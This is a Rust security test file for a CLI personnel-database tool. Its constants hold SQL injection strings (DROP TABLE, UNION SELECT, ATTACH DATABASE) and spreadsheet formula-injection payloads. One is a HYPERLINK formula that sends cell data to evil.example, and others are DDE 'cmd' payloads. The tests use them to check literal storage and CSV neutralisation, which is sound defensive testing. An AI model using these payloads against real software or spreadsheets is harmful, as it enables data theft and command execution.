//! Security: filter and import text never reach SQL as text; a new database
//! is readable by its owner only; the audit trail records the OS user beside
//! `--as`; exported CSVs (query, minutes) neutralise spreadsheet formulas.

#![cfg(unix)]

use rusqlite::Connection;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const INJECTIONS: [&str; 8] = [
    "'; DROP TABLE employee; --",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM audit_log; --",
    "%",
    "_",
    "a\0b",
    "x' UNION SELECT nip FROM employee --",
    "\\\" ; ATTACH DATABASE '/tmp/pwn.db' AS p; --",
];

const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+62 811 000",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
];

fn talenta(db: &Path) -> Command {
    let mut c = Command::new(assert_cmd::cargo::cargo_bin("talenta"));
    c.arg("--db")
        .arg(db)
        .args(["--lang", "en", "--as-of", "2026-11-22"]);
    c.env_remove("TALENTA_DB")
        .env("TALENTA_CONFIG", "/nonexistent/talenta.toml")
        .env("USER", "bkd-operator")
        .stdin(Stdio::null());
    c
}

fn run(c: &mut Command) -> Output {
    c.output().unwrap()
}

fn ok(c: &mut Command) -> String {
    let o = run(c);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout).unwrap()
}

fn fixture_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import/valid_comma")
}

/// The fixture's pegawai.csv with the given names, units and jabatan, one per row.
fn pegawai_with(dir: &Path, texts: &[&str]) -> PathBuf {
    let mut r = csv::Reader::from_path(fixture_dir().join("pegawai.csv")).unwrap();
    let header = r.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let file = dir.join("pegawai.csv");
    let mut w = csv::Writer::from_path(&file).unwrap();
    w.write_record(&header).unwrap();
    for (i, row) in rows.iter().enumerate() {
        let mut v: Vec<String> = row.iter().map(String::from).collect();
        if let Some(t) = texts.get(i) {
            v[1] = t.to_string(); // nama
            v[6] = t.to_string(); // jabatan
            v[8] = format!("Unit {t}"); // unit_kerja
        }
        w.write_record(&v).unwrap();
    }
    w.flush().unwrap();
    file
}

fn tables(db: &Path) -> Vec<String> {
    let c = Connection::open(db).unwrap();
    let mut st = c
        .prepare("SELECT name FROM sqlite_master WHERE type IN ('table', 'trigger') ORDER BY name")
        .unwrap();
    st.query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

fn filter_literal(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn injection_strings_are_stored_and_filtered_literally() {
    let d = tempfile::tempdir().unwrap();
    let db = d.path().join("pool.db");
    // A NUL in a name is refused by the importer as a control character.
    let nul = d.path().join("nul");
    std::fs::create_dir(&nul).unwrap();
    let o = run(talenta(&db)
        .arg("import")
        .arg(pegawai_with(&nul, &["a\0b"])));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("control or bidirectional characters"));
    assert!(!db.exists());
    let texts: Vec<&str> = INJECTIONS
        .iter()
        .copied()
        .filter(|t| !t.contains('\0'))
        .take(6)
        .collect();
    let file = pegawai_with(d.path(), &texts);
    ok(talenta(&db).arg("import").arg(&file));
    let before = tables(&db);
    assert!(before.contains(&"employee".to_string()));

    let c = Connection::open(&db).unwrap();
    for t in &texts {
        let n: i64 = c
            .query_row(
                "SELECT count(*) FROM employee WHERE nama = ?1 AND jabatan = ?1",
                [t],
                |r| r.get(0),
            )
            .unwrap();
        assert_eq!(n, 1, "stored literally: {t:?}");
    }
    drop(c);

    for t in &texts {
        for field in ["nama", "jabatan"] {
            let f = format!("{field} = {}", filter_literal(t));
            let o = run(talenta(&db).args(["query", &f, "--count"]));
            if o.status.success() {
                assert_eq!(
                    String::from_utf8_lossy(&o.stdout).trim(),
                    "1",
                    "{f}: exactly the one employee"
                );
            } else {
                // Refused as a filter (exit 2), never run.
                assert_eq!(o.status.code(), Some(2), "{f}");
            }
        }
    }
    // LIKE wildcards are not wildcards: `~` is a substring match in Rust, not SQL LIKE.
    let pct = ok(talenta(&db).args(["query", "nama = \"%\"", "--count"]));
    assert_eq!(pct.trim(), "1");
    let pct = ok(talenta(&db).args(["query", "nama ~ \"%\"", "--count"]));
    assert_eq!(pct.trim(), "1");
    // "_" itself and "...audit_log...": the two names holding an underscore.
    let under = ok(talenta(&db).args(["query", "nama ~ \"_\"", "--count"]));
    assert_eq!(under.trim(), "2");
    // Injection text as a whole filter, as a sort field, as a NIP to show.
    for t in INJECTIONS.iter().filter(|t| !t.contains('\0')) {
        // As a whole filter: refused (exit 2) or read as search text; never SQL.
        let o = run(talenta(&db).args(["query", t, "--count"]));
        assert!(matches!(o.status.code(), Some(0 | 2)), "{t}");
        if o.status.success() {
            String::from_utf8_lossy(&o.stdout)
                .trim()
                .parse::<u64>()
                .unwrap();
        }
        let o = run(talenta(&db).args(["query", "", "--sort", t]));
        assert_eq!(o.status.code(), Some(2), "{t}");
        let o = run(talenta(&db).args(["show", t]));
        assert_ne!(o.status.code(), Some(0), "{t}");
        assert!(!String::from_utf8_lossy(&o.stderr).contains("panicked"));
    }
    assert_eq!(tables(&db), before, "no table or trigger dropped or added");
    assert!(!Path::new("/tmp/pwn.db").exists());
    ok(talenta(&db).args(["audit", "verify"]));
    let n: i64 = Connection::open(&db)
        .unwrap()
        .query_row("SELECT count(*) FROM employee", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 6);
}

#[test]
fn injection_strings_as_nips_and_session_text() {
    let d = tempfile::tempdir().unwrap();
    let db = d.path().join("pool.db");
    ok(talenta(&db).arg("import").arg(fixture_dir()));
    let before = tables(&db);
    // As NIPs in an import: refused as invalid NIPs, nothing written.
    let dir = d.path().join("bad");
    std::fs::create_dir(&dir).unwrap();
    let mut text = String::from("nip,tahun,predikat\n");
    for t in INJECTIONS {
        text.push_str(&format!("{},2024,Baik\n", filter_literal(t)));
    }
    std::fs::write(dir.join("kinerja.csv"), text).unwrap();
    let o = run(talenta(&db).arg("import").arg(&dir));
    assert_eq!(o.status.code(), Some(2));
    // As session titles, member names, reasons: stored literally.
    let id = ok(talenta(&db).args([
        "session",
        "new",
        "--title",
        INJECTIONS[0],
        "--member",
        INJECTIONS[1],
        "--member",
        "B",
    ]))
    .trim()
    .to_string();
    ok(talenta(&db).args(["session", "attend", &id, INJECTIONS[1], "B"]));
    let did = ok(talenta(&db).args([
        "session",
        "decide",
        &id,
        "198609262015051001",
        "--kind",
        "ditunda",
        "--reason",
        INJECTIONS[2],
    ]))
    .trim()
    .to_string();
    let o = run(talenta(&db).args([
        "session",
        "decide",
        &id,
        INJECTIONS[0],
        "--kind",
        "ditunda",
        "--reason",
        "x",
    ]));
    assert_eq!(o.status.code(), Some(2));
    let c = Connection::open(&db).unwrap();
    let (title, reason): (String, String) = c
        .query_row(
            "SELECT s.title, d.reason FROM decision d JOIN committee_session s ON s.id = d.session_id WHERE d.id = ?1",
            [did.parse::<i64>().unwrap()],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(
        (title.as_str(), reason.as_str()),
        (INJECTIONS[0], INJECTIONS[2])
    );
    drop(c);
    assert_eq!(tables(&db), before);
    ok(talenta(&db).args(["audit", "verify"]));
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn side(db: &Path, s: &str) -> PathBuf {
    PathBuf::from(format!("{}{s}", db.display()))
}

#[test]
fn new_database_files_are_owner_only() {
    let d = tempfile::tempdir().unwrap();
    // Whatever the umask: run with a permissive one.
    for (how, args) in [
        (
            "import",
            vec!["import".to_string(), fixture_dir().display().to_string()],
        ),
        (
            "demo",
            vec![
                "demo".into(),
                "--size".into(),
                "100".into(),
                "--force".into(),
            ],
        ),
    ] {
        let db = d.path().join(format!("{how}.db"));
        let o = Command::new("sh")
            .arg("-c")
            .arg("umask 000; exec \"$0\" \"$@\"")
            .arg(assert_cmd::cargo::cargo_bin("talenta"))
            .arg("--db")
            .arg(&db)
            .args(&args)
            .env("TALENTA_CONFIG", "/nonexistent/talenta.toml")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(mode(&db), 0o600, "{how}");
        // While a connection is open, SQLite's -wal and -shm take the database's mode.
        let c = Connection::open(&db).unwrap();
        c.pragma_update(None, "journal_mode", "WAL").unwrap();
        c.execute_batch("BEGIN IMMEDIATE; CREATE TABLE probe(x); ROLLBACK;")
            .unwrap();
        let _: i64 = c
            .query_row("SELECT count(*) FROM employee", [], |r| r.get(0))
            .unwrap();
        for s in ["-wal", "-shm"] {
            if side(&db, s).exists() {
                assert_eq!(mode(&side(&db, s)), 0o600, "{how}{s}");
            }
        }
    }
}

#[test]
fn the_audit_trail_records_the_os_user_beside_as() {
    let d = tempfile::tempdir().unwrap();
    let db = d.path().join("pool.db");
    ok(talenta(&db).arg("import").arg(fixture_dir()));
    ok(talenta(&db).args(["--as", "Ketua Komite", "session", "new", "--title", "S"]));
    // Without USER/LOGNAME/USERNAME: the name of the process's uid.
    ok(talenta(&db)
        .env_remove("USER")
        .env_remove("LOGNAME")
        .env_remove("USERNAME")
        .args(["--as", "Sekretaris", "session", "new", "--title", "T"]));
    let c = Connection::open(&db).unwrap();
    let mut st = c
        .prepare("SELECT actor, os_user FROM audit_log ORDER BY seq")
        .unwrap();
    let rows: Vec<(String, String)> = st
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(rows[0], ("bkd-operator".into(), "bkd-operator".into()));
    assert_eq!(rows[1], ("Ketua Komite".into(), "bkd-operator".into()));
    assert_eq!(rows[2].0, "Sekretaris");
    assert!(
        !rows[2].1.is_empty() && rows[2].1 != "unknown",
        "{:?}",
        rows[2]
    );
    let log = ok(talenta(&db).args(["audit", "log", "--format", "json"]));
    assert!(log.contains("Ketua Komite") && log.contains("bkd-operator"));
}

fn neutralised(cell: &str) -> bool {
    !matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

#[test]
fn exported_csvs_neutralise_formulas() {
    let d = tempfile::tempdir().unwrap();
    let db = d.path().join("pool.db");
    let dir = d.path().join("set");
    std::fs::create_dir(&dir).unwrap();
    for e in std::fs::read_dir(fixture_dir()).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), dir.join(e.file_name())).unwrap();
    }
    pegawai_with(&dir, &FORMULAS[..6]);
    ok(talenta(&db).arg("import").arg(&dir));

    let out = ok(talenta(&db).args(["query", "", "--format", "csv"]));
    let mut r = csv::Reader::from_reader(out.as_bytes());
    let mut seen = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            assert!(neutralised(cell), "query CSV cell {cell:?}");
            seen += usize::from(cell.starts_with("'=") || cell.starts_with("'+"));
        }
    }
    assert!(seen > 0, "the formulas were exported, neutralised");

    let id = ok(talenta(&db).args([
        "session",
        "new",
        "--title",
        FORMULAS[0],
        "--member",
        FORMULAS[3],
        "--member",
        "B",
    ]))
    .trim()
    .to_string();
    ok(talenta(&db).args(["session", "attend", &id, FORMULAS[3], "B"]));
    ok(talenta(&db).args([
        "session",
        "decide",
        &id,
        "198609262015051001",
        "--kind",
        "ditunda",
        "--reason",
        FORMULAS[6],
    ]));
    let out = ok(talenta(&db).args(["session", "minutes", &id, "--format", "csv"]));
    let mut r = csv::Reader::from_reader(out.as_bytes());
    let mut rows = 0;
    for rec in r.records() {
        rows += 1;
        for cell in rec.unwrap().iter() {
            assert!(neutralised(cell), "minutes CSV cell {cell:?}");
        }
    }
    assert_eq!(rows, 1);
    // Markdown, JSON and docx are not spreadsheets: the text is kept as it was.
    let md = ok(talenta(&db).args(["session", "minutes", &id, "--format", "md"]));
    assert!(md.contains(FORMULAS[6]));
}
